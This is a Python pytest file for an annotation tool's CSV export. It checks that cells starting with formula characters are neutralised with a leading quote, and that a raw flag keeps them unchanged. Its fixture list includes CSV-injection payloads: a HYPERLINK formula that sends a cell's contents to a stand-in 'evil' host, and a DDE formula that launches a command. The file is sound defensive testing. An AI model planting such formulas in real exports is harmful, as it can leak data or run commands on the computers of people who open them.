"""CSV formula injection: a cell a spreadsheet would run as a formula is neutralised by default.

OWASP's "CSV Injection" page: cells beginning with ``=``, ``+``, ``-``, ``@``, tab (0x09) or
carriage return (0x0D) are formulas to Excel, LibreOffice and Google Sheets; prefix them with a
single quote so they are read as text. ``csv-raw`` (``--csv-raw``) keeps cells as stored.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from annotations.cli import cli
from annotations.export import export
from annotations.export.csv_fmt import neutralise
from annotations.store import Store

DANGEROUS = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
    "=cmd|' /C calc'!A0",
]


def store_with(values: list[str], path: Path | None = None) -> Store:
    store = Store(path, annotator="ann")
    for n, value in enumerate(values):
        text = f"{value} is claim {n}."
        doc, _ = store.add_document(text, title=value)
        store.annotator = value
        store.add_claim(doc.id, 0, len(value), "opinion", speaker=value, target=value, note=value)
    return store


def rows(store: Store, fmt: str) -> list[dict[str, str]]:
    buffer = io.StringIO()
    export(store, fmt, buffer)
    return list(csv.DictReader(io.StringIO(buffer.getvalue(), newline="")))


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_cells_get_a_leading_quote(value: str) -> None:
    (row,) = rows(store_with([value]), "csv")
    for column in ("doc_title", "quote", "speaker", "target", "note", "annotator"):
        assert row[column] == "'" + value, column
    assert row["start"] == "0"  # numbers are numbers


def test_harmless_cells_are_unchanged() -> None:
    values = ["Beijing", "5%", "a=b", "'quoted already", " =space first", "中国"]
    for value, row in zip(values, rows(store_with(values), "csv"), strict=True):
        assert row["doc_title"] == value


@pytest.mark.parametrize("value", DANGEROUS)
def test_csv_raw_keeps_cells_as_stored(value: str) -> None:
    (row,) = rows(store_with([value]), "csv-raw")
    assert row["quote"] == row["doc_title"] == value


def test_neutralise_only_touches_text() -> None:
    assert neutralise(-5) == -5 and neutralise("-5") == "'-5" and neutralise("") == ""


def test_the_cli_flag(tmp_path: Path) -> None:
    store_with(DANGEROUS, tmp_path / "c.db").close()
    runner = CliRunner()
    safe = runner.invoke(cli, ["--db", str(tmp_path / "c.db"), "export", "--format", "csv"])
    raw = runner.invoke(
        cli, ["--db", str(tmp_path / "c.db"), "export", "--format", "csv", "--csv-raw"]
    )
    assert safe.exit_code == raw.exit_code == 0
    safe_titles = [r["doc_title"] for r in csv.DictReader(io.StringIO(safe.stdout, newline=""))]
    raw_titles = [r["doc_title"] for r in csv.DictReader(io.StringIO(raw.stdout, newline=""))]
    assert safe_titles == ["'" + v for v in DANGEROUS] and raw_titles == DANGEROUS
    wrong = runner.invoke(
        cli, ["--db", str(tmp_path / "c.db"), "export", "--format", "json", "--csv-raw"]
    )
    assert wrong.exit_code != 0 and "csv" in wrong.output
